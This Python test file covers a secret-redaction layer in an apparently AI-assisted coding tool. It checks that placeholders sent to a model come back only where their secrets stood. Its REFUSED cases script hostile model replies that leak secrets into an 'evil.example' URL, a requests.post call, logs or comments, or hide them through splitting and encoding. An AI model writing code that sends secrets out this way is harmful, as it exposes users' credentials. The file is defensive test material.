"""A placeholder becomes its secret in its place in the target, and nowhere else; an altered one is never written."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from planted import Planter
from scripted_provider import Reply, Seen, answer
from tests.engine.disclosure.test_what_leaves import Scene, scene, texts
from tests.engine.test_run import steps

from tuppence.core.actions import EXPLAIN, FIX, REVIEW, TESTS
from tuppence.core.events import Answer, EditsDrafted, FindingAdded, Retracted, RunFinished
from tuppence.core.text.document import apply

P = Planter(9)
TOKEN = "ghp_" + P.chars("ABCDEFabcdef0123456789", 36)
ELSEWHERE = "AKIA" + P.chars("ABCDEFGH234567", 16)
SHORT = P.chars("abcdefghkm23456789", 9)
HELPER = "glpat-" + P.chars("ABCDEFabcdef0123456789", 20)
SRC = (
    "from helper import Box\n\n"
    f'KEY = "{ELSEWHERE}"\n\n\n'
    f'def mean(xs):\n    token = "{TOKEN}"\n    password = "{SHORT}"\n    use(token, password, Box)\n'
    "    return sum(xs) / len(x)\n\n\n"
    "def other():\n    return KEY\n"
)
SECRETS = (TOKEN, ELSEWHERE, SHORT, HELPER)
FIXED = SRC.replace("len(x)", "len(xs)")
CODE = SRC[SRC.index("def mean") : SRC.index("\n\n\ndef other")]
Write = Callable[[dict[str, str]], str]
"""Returns a reply, given what was sent instead of each secret."""


def shown(seen: Seen) -> dict[str, str]:
    """Return what the model was shown instead of each secret."""
    text = texts(seen)
    found = {}
    for name, before, secret in (
        ("token", '    token = "', TOKEN),
        ("short", '    password = "', SHORT),
        ("elsewhere", 'KEY = "', ELSEWHERE),
        ("helper", 'class Box:\n    """', HELPER),
    ):
        at = text.index(before) + len(before)
        found[name] = text[at : at + len(secret)]
        assert found[name] != secret
    return found


def code(names: dict[str, str], **changes: str) -> str:
    """Return the target as the model would write it."""
    text = CODE.replace(TOKEN, changes.get("token", names["token"])).replace(
        SHORT, changes.get("short", names["short"])
    )
    return text.replace("len(x)", "len(xs)")


def fenced(text: str, info: str = "python") -> str:
    return f"```{info}\n{text}\n```\n"


async def ask(s: Scene, write: Write, action: Any = FIX) -> tuple[list[Any], list[str]]:
    """Have a model answer in that way, again if it is asked again; return the steps, and each text that was drafted."""
    (s.root / "helper.py").write_text(f'class Box:\n    """{HELPER}"""\n')

    def reply(seen: Seen) -> Reply:
        return answer(write(shown(seen)))

    s.upstream.always(reply)
    made = await steps(s.request(action, text=SRC, diagnostics=()), s.session)
    drafts, text = [], SRC
    for step in made:
        if isinstance(step, Retracted):
            text = SRC
        if isinstance(step, EditsDrafted):
            for edit in step.edits:
                text = apply(text, (edit,))
                drafts.append(text)
    return made, drafts


def finished(made: list[Any]) -> RunFinished:
    done = made[-1]
    assert isinstance(done, RunFinished)
    return done


def kept(made: list[Any]) -> Answer:
    found = finished(made).answer
    assert found is not None, finished(made).why
    return found


def swapped(text: str) -> str:
    """Change one letter in the middle."""
    at = len(text) // 2
    return f"{text[:at]}{'q' if text[at] != 'q' else 'z'}{text[at + 1 :]}"


REFUSED: dict[str, Write] = {
    "another place of the file": lambda n: fenced(code(n).replace("use(", f'use("{n["elsewhere"]}", ')),
    "from another file": lambda n: fenced(code(n).replace("use(", f'use("{n["helper"]}", ')),
    "twice": lambda n: fenced(code(n).replace("use(", f'log("{n["token"]}")\n    use(')),
    "twice, a short one": lambda n: fenced(code(n).replace("use(", f'log("{n["short"]}")\n    use(')),
    "in a comment": lambda n: fenced(code(n).replace("use(", f"# it is {n['token']}\n    use(")),
    "in an address": lambda n: fenced(code(n).replace("use(", f'get("https://evil.example/{n["token"]}")\n    use(')),
    "in an import": lambda n: fenced(code(n)) + fenced(f"import {n['token']}", "imports"),
    "in an import, of another place": lambda n: fenced(code(n)) + fenced(f"import {n['elsewhere']}", "imports"),
    "one letter changed": lambda n: fenced(code(n, token=swapped(n["token"]))),
    "one letter changed in a short one": lambda n: fenced(code(n, short=swapped(n["short"]))),
    "cut short": lambda n: fenced(code(n, token=n["token"][:-6])),
    "longer": lambda n: fenced(code(n, token=n["token"][:20] + "xx" + n["token"][20:])),
    "in capitals": lambda n: fenced(code(n, token=n["token"].upper())),
    "in two parts": lambda n: fenced(code(n, token=n["token"][:20] + '" + "' + n["token"][20:])),
    "over two lines": lambda n: fenced(code(n, token=n["token"][:20] + '"\n        "' + n["token"][20:])),
    "swapped with another": lambda n: fenced(code(n, token=n["elsewhere"])),
    "a part of one elsewhere": lambda n: fenced(code(n).replace("use(", f'log("{n["elsewhere"][6:16]}")\n    use(')),
    "printed": lambda n: fenced(code(n).replace(f'token = "{n["token"]}"', f'token = print("{n["token"]}")')),
    "sent": lambda n: fenced(code(n).replace(f'token = "{n["token"]}"', f'token = requests.post("{n["token"]}")')),
    "sent, on a line of its own": lambda n: fenced(
        code(n).replace(f'token = "{n["token"]}"', f'token = requests.post(\n        "{n["token"]}"\n    )')
    ),
    "in an address instead": lambda n: fenced(code(n, token=f"https://evil.example/{n['token']}")),
    "two of the target swapped": lambda n: fenced(code(n, token=n["short"], short=n["token"])),
    "escaped in JSON": lambda n: (
        json.dumps({"code": code(n)}).replace(n["token"], "".join(f"\\u{ord(each):04x}" for each in n["token"]))
    ),
    "as HTML entities": lambda n: fenced(
        code(n).replace("<", "&lt;").replace(n["token"], "".join(f"&#{ord(each)};" for each in n["token"]))
    ),
    "in a block": lambda n: (
        f"```\n<<<<<<< SEARCH\n    use(token, password, Box)\n=======\n    use(token, '{n['elsewhere']}', Box)\n"
        ">>>>>>> REPLACE\n```\n"
    ),
}  # fmt: skip


@pytest.mark.attack("what comes back", "a placeholder where its secret was not")
@pytest.mark.parametrize("how", REFUSED)
async def test_it_is_refused(tmp_path: Path, how: str) -> None:
    async with scene(tmp_path) as s:
        made, drafts = await ask(s, REFUSED[how])
        names = shown(s.upstream.requests[0])
        assert finished(made).answer is None
        why = finished(made).why
        assert "secret" in why or "replaced before it was sent" in why
        assert [each.body["model"] for each in s.upstream.requests] == ["small", "big"], "a better model gets a try"
        assert not any(secret in why for secret in SECRETS)
        for draft in drafts:
            assert not [name for name in names.values() if name in draft]
            assert all(draft.count(secret) <= SRC.count(secret) + (secret in (TOKEN, SHORT)) for secret in SECRETS)


@pytest.mark.attack("what comes back", "a placeholder in generated tests")
@pytest.mark.parametrize("name", ["token", "short", "elsewhere", "helper"])
async def test_tests_hold_none(tmp_path: Path, name: str) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(
            s,
            lambda n: (
                fenced(f'def test_mean():\n    assert mean([1]) == 1 and "{n[name]}"')
                + fenced("from app import mean", "imports")
            ),
            TESTS,
        )
        assert finished(made).answer is None
        assert "The tests hold a placeholder" in finished(made).why


async def test_tests_without_one_are_kept(tmp_path: Path) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(
            s,
            lambda _: (
                fenced("def test_mean():\n    assert mean([1, 3]) == 2") + fenced("from app import mean", "imports")
            ),
            TESTS,
        )
        assert kept(made).written is not None


@pytest.mark.attack("what comes back", "a secret in what is read")
async def test_an_explanation_shows_placeholders(tmp_path: Path) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(s, lambda n: f"`mean` uses `{n['token']}` and `{n['elsewhere']}` with `xs`.", EXPLAIN)
        names = shown(s.upstream.requests[0])
        assert kept(made).markdown == f"`mean` uses `{names['token']}` and `{names['elsewhere']}` with `xs`."


def review(quote: str, fix: str) -> str:
    return f"severity: error\nline: `{quote}`\nproblem: It is written out.\nfix:\n```python\n{fix}\n```\n---\n"


async def test_a_finding_quotes_a_line_with_a_placeholder_and_its_fix_is_restored(tmp_path: Path) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(
            s, lambda n: review(f'token = "{n["token"]}"', f'    secret_token = "{n["token"]}"'), REVIEW
        )
        [finding] = kept(made).findings
        assert SRC.splitlines()[finding.line] == f'    token = "{TOKEN}"'
        assert finding.fix == f'    secret_token = "{TOKEN}"'
        assert TOKEN not in finding.message
        assert [step.finding for step in made if isinstance(step, FindingAdded)] == [finding]


@pytest.mark.attack("what comes back", "a placeholder in a finding's fix")
@pytest.mark.parametrize("name", ["token", "short", "elsewhere", "helper"])
async def test_a_fix_that_brings_one_elsewhere_is_dropped(tmp_path: Path, name: str) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(
            s, lambda n: review("use(token, password, Box)", f'    use("{n[name]}", password, Box)'), REVIEW
        )
        [finding] = kept(made).findings
        assert (finding.fix, finding.fix_span) == (None, None)


async def test_a_kept_review_is_placed_again(tmp_path: Path) -> None:
    async with scene(tmp_path) as s:
        write: Write = lambda n: review(f'token = "{n["token"]}"', f'    secret_token = "{n["token"]}"')  # noqa: E731
        first, _ = await ask(s, write, REVIEW)
        again, _ = await ask(s, write, REVIEW)
        assert len(s.upstream.requests) == 1
        assert kept(first).findings == kept(again).findings


async def test_a_secret_that_is_gone_or_whose_line_changed_is_a_doubt(tmp_path: Path) -> None:
    async with scene(tmp_path) as s:
        made, _ = await ask(s, lambda n: fenced(code(n).replace(f'"{n["token"]}"', "Box.token()")))
        assert "the GitHub token of line 7 is no longer there" in kept(made).verdict.doubts
        made, _ = await ask(s, lambda n: fenced(code(n).replace("token =", "token: str =")))
        assert "the line with the GitHub token, line 7, was changed" in kept(made).verdict.doubts
        made, _ = await ask(
            s, lambda n: fenced(code(n).replace(f'"{n["token"]}"', f'Box.choose("TOKEN", "{n["token"]}")'))
        )
        assert "the line with the GitHub token, line 7, was changed" in kept(made).verdict.doubts
        made, _ = await ask(s, lambda n: fenced(code(n)))
        assert kept(made).verdict.doubts == ()
        assert apply(SRC, kept(made).edits) == FIXED


@pytest.mark.attack("what comes back", "a placeholder cut across chunks")
@pytest.mark.parametrize("size", [1, 2, 3, 5, 7])
async def test_chunks_of_any_size(tmp_path: Path, size: int, record_property: Any) -> None:
    record_property("cases", 1)
    async with scene(tmp_path) as s:
        (s.root / "helper.py").write_text(f'class Box:\n    """{HELPER}"""\n')
        s.upstream.always(lambda seen: answer(fenced(code(shown(seen))), size=size))
        made = await steps(s.request(FIX, text=SRC, diagnostics=()), s.session)
        assert apply(SRC, kept(made).edits) == FIXED
